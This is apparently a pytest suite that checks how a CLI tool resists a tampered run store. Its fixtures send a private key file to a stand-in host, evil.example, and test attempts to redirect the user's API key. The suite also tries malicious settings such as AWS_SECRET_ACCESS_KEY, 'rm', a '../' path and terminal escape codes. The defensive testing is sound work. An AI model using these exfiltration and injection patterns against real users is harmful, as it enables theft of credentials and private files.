"""A hostile store that the user names: its runs are shown, and resumed with `--yes` only."""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from pearl.runs.store import RunSpec, Store
from tests.cli.commands.test_runs import pearl
from tests.cli.terminal import Terminal
from tests.conftest import PROXIES
from tests.server import Server, serving

__all__ = ["pearl"]

EVIL = "http://evil.example/v1"
SECRET = "the private key of the user"
KEY = "sk-the-users-own-key"


@dataclass
class Hostile:
    """A store that somebody else has made, and what it is after."""

    id: str
    evil: Server
    private: Path
    precious: Path

    def check(self) -> None:
        """Nothing was posted, and nothing written over."""
        assert self.evil.requests == []
        assert self.precious.read_text() == "precious"


@pytest.fixture
def hostile(pearl: Terminal, monkeypatch: pytest.MonkeyPatch) -> Iterator[Hostile]:
    """Begun as any run, by somebody to whom the files are nothing: all of it is as it would be."""
    work = pearl.folder / "home" / "work"
    work.mkdir(parents=True)
    private, precious = work.parent / "id_rsa", work.parent / "precious.jsonl"
    private.write_text(SECRET)
    with serving() as evil:
        for name in PROXIES:
            monkeypatch.setenv(name, evil.url.removesuffix("/v1"))
        with contextlib.chdir(work):
            pearl("execute", str(pearl.folder / "why.plan"), str(private), "--out", str(precious),
                  "--model", "openai:m", "--base-url", EVIL, "--max-calls", "0", code=7)  # fmt: skip
        (run,) = json.loads(pearl("runs", "list", "--json"))
        precious.write_text("precious")
        monkeypatch.setenv("OPENAI_API_KEY", KEY)
        yield Hostile(run["id"], evil, private, precious)


WORK: dict[str, Any] = {
    "domain": "generic", "context": "auto", "ranker": "bm25", "max_repairs": 4, "max_steps": 40, "concurrency": 8,
    "items_per_call": 32, "timeout_s": 60.0, "constrain": "auto", "prefix": "auto", "executor": "local",
}  # fmt: skip


def crafted(work: dict[str, Any], argv: tuple[str, ...], folder: Path) -> str:
    """A run that no pearl has begun; its id."""
    with Store.open(Path("store")) as store:
        return store.begin(
            RunSpec(argv, {"command": "execute"}, {}, str(folder), work), fresh=True
        ).id


def test_nothing_of_a_store_is_done_before_it_is_confirmed(
    pearl: Terminal, hostile: Hostile
) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "pearl", "runs", "resume", hostile.id], stdin=subprocess.DEVNULL,
        capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert (done.returncode, done.stdout) == (3, "")
    assert f"  model   openai: m at {EVIL}, without a key\n" in done.stderr
    assert f"  reads   {pearl.folder / 'why.plan'}, {hostile.private}\n" in done.stderr
    assert f"  writes  {hostile.precious}\n" in done.stderr
    assert f"{hostile.precious}: exists and has no results of a run" in done.stderr
    hostile.check()
    hostile.precious.unlink()
    pearl("runs", "resume", hostile.id, code=2)
    assert "--yes confirms it" in pearl.talk
    assert hostile.evil.requests == []
    assert not hostile.precious.exists()


def test_a_file_that_no_run_wrote_is_not_written_over_confirmed_or_not(
    pearl: Terminal, hostile: Hostile
) -> None:
    for content in ("precious", '{"id": 1}', "[]", "\n", "[" * 200_000):
        hostile.precious.write_text(content)
        pearl("runs", "resume", hostile.id, "--yes", "--max-calls", "9", code=3)
        assert hostile.precious.read_text() == content
    assert hostile.evil.requests == []


def test_a_key_of_openai_goes_to_no_server_that_only_a_store_names(
    pearl: Terminal, hostile: Hostile
) -> None:
    again = ("runs", "resume", hostile.id, "--yes", "-o", "rows.jsonl", "--max-calls")
    pearl(*again, "4")
    assert any(SECRET in seen.prompt for seen in hostile.evil.requests)  # the user has confirmed it
    assert {seen.headers["authorization"] for seen in hostile.evil.requests} == {"Bearer none"}
    Path("home/id_rsa").write_text("another text")
    pearl(*again, "4", "--base-url", EVIL)
    assert hostile.evil.requests[-1].headers["authorization"] == f"Bearer {KEY}"
    assert hostile.precious.read_text() == "precious"


def test_what_is_outside_of_the_folder_is_never_among_those_not_shown(pearl: Terminal) -> None:
    Path("home").mkdir()
    documents = [f"d{i}.txt" for i in range(300)]
    documents[200] = "../private.txt"
    id = crafted(
        {**WORK, "model": "extractive", "out": "x", "plan_and_documents": documents}, (),
        pearl.folder / "home",
    )  # fmt: skip
    pearl("runs", "resume", id, code=2)
    assert f"  reads   {pearl.folder / 'private.txt'}, d0.txt, " in pearl.talk
    assert " and 292 more in this folder" in pearl.talk


def test_a_server_that_is_not_the_users_is_refused(
    pearl: Terminal, hostile: Hostile, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("OPENAI_BASE_URL", "PEARL_BASE_URL"):
        with monkeypatch.context() as patched:
            patched.setenv(name, "http://127.0.0.1:9/v1")
            pearl("runs", "resume", hostile.id, "--yes", code=2)
            assert "was sent to http://evil.example/v1, but your settings name" in pearl.talk
    hostile.check()


def test_a_command_line_that_a_store_holds_is_only_shown(pearl: Terminal, hostile: Hostile) -> None:
    id = crafted({}, ("ask", "Who?", str(hostile.private), "--trace", "t.jsonl"), pearl.folder)
    pearl("runs", "resume", id, "--yes", code=8)
    assert "cannot be resumed: the store has no request for it" in pearl.talk
    assert str(hostile.private) in pearl("runs", "show", id)
    assert not Path("t.jsonl").exists()
    hostile.check()


@pytest.mark.parametrize(
    "change",
    [{"api_key_env": "AWS_SECRET_ACCESS_KEY"}, {"run": "x"}, {"concurrency": 0}, {"model": 5},
     {"out": None}, {"out": "a\0b"}, {"executor": "evil"}, {"fallback": "rm"}, {"max_cost": -1}],
)  # fmt: skip
def test_work_that_makes_no_sense_is_refused(pearl: Terminal, change: dict[str, Any]) -> None:
    id = crafted({**WORK, "model": "extractive", "out": "x", **change}, (), pearl.folder)
    pearl("runs", "resume", id, "--yes", code=8)
    assert f"the request of run {id} is invalid: {next(iter(change))}" in pearl.talk


def test_a_store_of_others_is_not_resumed(
    pearl: Terminal, hostile: Hostile, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = Path("store")
    for path, rights in ((store, 0o777), (store, 0o770), (store / "store.db", 0o666)):
        before = path.stat().st_mode & 0o777
        path.chmod(rights)
        pearl("runs", "resume", hostile.id, "--yes", code=8)
        assert "other users may write to it" in pearl.talk
        path.chmod(before)
    monkeypatch.setattr(os, "geteuid", lambda: store.stat().st_uid + 1)
    pearl("runs", "resume", hostile.id, "--yes", code=8)
    assert "it belongs to another user" in pearl.talk
    hostile.check()


def test_nothing_of_a_store_moves_the_cursor(pearl: Terminal) -> None:
    evil = "\x1b]0;pwned\x07\x9b2J\u202e"
    id = crafted({**WORK, "model": evil, "out": evil}, ("execute", evil), pearl.folder)
    said = pearl("runs", "show", id) + pearl("runs", "list")
    pearl("runs", "resume", id, code=2)
    assert not {"\x1b", "\x07", "\x9b", "\u202e"} & {*said, *pearl.talk}


def test_a_run_of_the_users_own_store_is_resumed_without_a_question(
    pearl: Terminal, openai_server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("PEARL_STORE")
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    args = ("--model", "openai:m", "--base-url", openai_server.url, "--max-calls", "0")
    pearl("execute", "why.plan", "story.txt", "--out", "rows.jsonl", *args, code=7)
    (run,) = json.loads(pearl("runs", "list", "--json"))
    pearl("runs", "resume", run["id"], "--max-calls", "9")
    assert [seen.headers["authorization"] for seen in openai_server.requests] == [f"Bearer {KEY}"]
    assert json.loads(Path("rows.jsonl").read_text("utf-8"))["status"] == "answered"
